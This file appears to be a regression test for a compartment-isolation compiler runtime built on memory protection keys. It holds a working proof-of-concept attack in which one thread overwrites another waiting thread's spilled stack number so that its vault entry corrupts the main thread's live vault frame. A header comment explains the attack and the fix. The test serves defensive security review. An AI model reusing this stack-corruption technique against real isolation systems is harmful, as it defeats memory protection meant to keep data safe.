// Review 61a, attacker model A (key-0 loads and stores, a second thread):
// a thread's first vault entry runs from the top of the main thread's
// vault stack, over its live vault frames, through the stack number the
// runtime keeps on the thread's default-domain stack while it waits for
// the supervisor's answer to a claim that succeeds.
//
// How: bh_supervisor_request (d590d5b: signals blocked around the ioctl)
// pushes its caller's callee-saved registers; bh_stack_new (claim
// inlined, LLVM 19 -O2) holds the number i of the stack it claims in rbp,
// so for the whole wait i lies on the thread's own stack, key 0, next to
// the saved rbx (the vault's descriptor) and r12 (the thread id). After
// the answer 0 it checks the table with a pointer it kept in r13 (never
// spilled: the check passes for the stack the supervisor gave), then maps,
// records (mine.index) and hands the entry the fresh top of stack i as
// reloaded. The main thread holds stack 0 and waits in a call out from
// vault_hold (4 KiB of locals), making rounds of four new threads whose
// first vault entries ask for stacks at once (one vCPU: the supervisor
// answers them in turn). The attacker scans the top of their stacks for
// the three words (descriptor, the thread's id, then three words up a
// stack number) and stores 0 over the number. A thread caught waiting
// then starts its entry at stack 0's fresh top (the
// mark starts over there) and vault_scribble writes 1 KiB of the
// attacker's byte into the main thread's live vault locals. Review 60a's
// header foresaw this ("the success path's check_owner(c, i, 1, tid) has
// the same exposure once the compiler keeps i or c in a register the
// request pushes"); f9fbf0a fixed only the EBUSY path. Before d590d5b the
// request was, by its source, a tail call to syscall() that pushed
// nothing (not run here).
//
// Seen in the guest (LLVM 19, -O2): "round N: a second thread's vault
// frame (0x...f90) is on the main thread's vault stack" (rounds 0 to 2),
// "main, back in the vault: 1024 bytes of its locals are 'A'", ATTACK
// SUCCEEDED, 3 of 3 (the child then dies of SIGSEGV in the main thread's
// way out); the control run (no store) finds the words (3 to 5 times in
// 10 to 14 rounds) and sees 0 bytes changed, 3 of 3.
//
// Suggested fix: nothing bh_stack_new uses after the wait may have been
// in key-0 memory during it: a request stub that blocks signals and makes
// the ioctl in registers only (no push of the caller's registers), or
// bh_stack_new re-deriving the stack it maps and hands over from the owner
// table and a fresh gettid after the answer (the one stack of c whose
// owner is this thread), not from its own variables. While
// attacks-rev61b-slot-other-fresh-top.c stands, one slot store has the
// same effect without any wait.
//
// The frame layout is this compiler's; the pattern may need to follow a
// rebuilt bh_supervisor_request (it looks for the words, not offsets).
// Fixed (pass/AsmEmitter.cpp loadStackTop; runtime/stacks.c
// bh_stack_left): a slot at a stack's fresh top restarts the mark only if
// no word between the mark and the top holds the compartment's cookie
// (a call out still to be returned to); otherwise the entry continues at
// the mark. A longjmp with a compartment's rights out of its outermost
// entry voids its stack's records, so honest restarts still happen.
// Before, ATTACK SUCCEEDED 3 of 3; after, the test passes 3 of 3.
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -O2 -pthread %s -o %t
// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
// RUN: %run %t | FileCheck %s
// CONTROL: claims' words: seen yes, stored no
// CONTROL: main, back in the vault: 0 bytes of its locals are 'A'
// CONTROL: attacks-rev61a-claim-success-spill: end
// (After the fix the store either leaves the entry below the main thread's
// mark, or hits a word the runtime checks, which then stops the child
// with one line before it says what it stored.)
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: attacks-rev61a-claim-success-spill: end
#define _GNU_SOURCE
#include "Inputs/check.h"
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#define MAX_C 15       /* abi.h: BH_MAX_COMPARTMENTS */
#define PER_ARENA 512  /* abi.h: BH_STACKS_PER_ARENA */
#define WSTACK (256u << 10)
#define STACK_SIZE (1ul << 20) /* abi.h: BH_STACK_SIZE */
#define DOMAIN_STACK_LO 40     /* abi.h: BH_DOMAIN_STACK_LO */

/* runtime/stacks.c: who holds each stack (struct bh_owner_table). */
extern const uint32_t owners[MAX_C][PER_ARENA] __asm__(
    "__bulkhead_stack_owners") __attribute__((visibility("hidden")));
extern const uint64_t domain_table[] __asm__("__bulkhead_domain_table")
    __attribute__((visibility("hidden")));

static int attack;

void wait_outside(void);
BULKHEAD_ENTRY(vault) int vault_hold(void) {
  volatile char buf[4096];
  for (int k = 0; k < 4096; k++)
    buf[k] = 'v';
  wait_outside(); /* a call out: these frames stay live */
  int changed = 0;
  for (int k = 0; k < 4096; k++)
    changed += buf[k] == 'A';
  /* said here: the entry's own frame, at the stack's top, was written
   * over too, so its way back to the default domain may not survive */
  printf("main, back in the vault: %d bytes of its locals are 'A'\n", changed);
  if (changed)
    puts("ATTACK SUCCEEDED: another thread's vault entry wrote the "
         "attacker's bytes into the main thread's live vault frame");
  return changed;
}

#define WORKERS 4
struct worker {
  char *stack;
  _Atomic long tid;
  int stored;
  volatile uintptr_t frame; /* its vault_scribble's frame */
  pthread_t t;
};
static struct worker w[WORKERS];
static _Atomic int go, done;
static __thread struct worker *self;

BULKHEAD_ENTRY(vault) void vault_scribble(int byte, volatile uintptr_t *at) {
  volatile char buf[1024];
  for (int k = 0; k < 1024; k++)
    buf[k] = (char)byte;
  *at = (uintptr_t)__builtin_frame_address(0);
}

static void *worker(void *arg) {
  self = arg;
  self->tid = syscall(SYS_gettid);
  while (!go)
    ;
  vault_scribble('A', &self->frame); /* its first vault entry */
  done++;
  return NULL;
}

/* One round: new threads' first vault entries at once, and the
 * attacker's look at their stacks while they wait for their claims
 * (key-0 loads and stores): the vault's descriptor, the thread's id,
 * then, three words up, the stack it asked for. */
static void round_of(int *seen, int *stored) {
  go = done = 0;
  for (int k = 0; k < WORKERS; k++) {
    w[k].tid = 0, w[k].frame = 0, w[k].stored = 0;
    pthread_attr_t at;
    pthread_attr_init(&at);
    pthread_attr_setstack(&at, w[k].stack, WSTACK);
    CHECK(pthread_create(&w[k].t, &at, worker, &w[k]) == 0);
    pthread_attr_destroy(&at);
  }
  for (int k = 0; k < WORKERS; k++)
    while (!w[k].tid)
      sched_yield();
  uint64_t d = domain_table[1]; /* the vault's descriptor */
  uint32_t me = (uint32_t)syscall(SYS_gettid);
  uint64_t j = PER_ARENA; /* the main thread's stack: the number to put there */
  for (int k = 0; k < PER_ARENA; k++)
    if (owners[0][k] == me)
      j = (uint64_t)k;
  CHECK(j < PER_ARENA);
  go = 1;
  while (done < WORKERS)
    for (int k = 0; k < WORKERS; k++) {
      uint64_t *lo = (uint64_t *)(w[k].stack + WSTACK - 32768),
               *hi = (uint64_t *)(w[k].stack + WSTACK);
      for (uint64_t *p = lo; p + 5 <= hi && !w[k].stored; p++)
        if (p[0] == d && p[1] == (uint64_t)w[k].tid && p[4] &&
            p[4] < PER_ARENA && p[4] != j) {
          ++*seen;
          w[k].stored = 1; /* once a thread */
          if (attack)
            p[4] = j, ++*stored;
        }
    }
  for (int k = 0; k < WORKERS; k++)
    CHECK(pthread_join(w[k].t, NULL) == 0);
}

/* The main thread, in a call out from the vault. */
__attribute__((noinline)) void wait_outside(void) {
  uint32_t me = (uint32_t)syscall(SYS_gettid);
  uintptr_t lo = *(const uintptr_t *)(domain_table[1] + DOMAIN_STACK_LO),
            mine = 0;
  for (int k = 0; k < PER_ARENA; k++)
    if (owners[0][k] == me)
      mine = lo + (uintptr_t)k * STACK_SIZE;
  int seen = 0, stored = 0, round = 0, shared = 0;
  for (; round < 200 && !shared && !(seen >= 3 && !attack); round++) {
    round_of(&seen, &stored);
    for (int k = 0; k < WORKERS; k++)
      if (w[k].frame > mine && w[k].frame < mine + STACK_SIZE) {
        shared = 1;
        printf("round %d: a second thread's vault frame (%#lx) is on the "
               "main thread's vault stack\n",
               round, (unsigned long)w[k].frame);
      }
  }
  printf("claims' words: seen %s, stored %s (%d, %d, %d rounds)\n",
         seen ? "yes" : "no", stored ? "yes" : "no", seen, stored, round);
}

static int scenario(void) {
  CHECK(domain_table[0] == 1);
  for (int k = 0; k < WORKERS; k++) {
    w[k].stack = mmap(NULL, WSTACK, PROT_READ | PROT_WRITE,
                      MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    CHECK(w[k].stack != MAP_FAILED);
  }
  vault_hold();
  return 0;
}

/* In a child: the main thread's way out of the vault may not survive. */
int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  attack = !(argc > 1 && !strcmp(argv[1], "control"));
  run_scene_in_child(scenario);
  puts("attacks-rev61a-claim-success-spill: end");
  return 0;
}
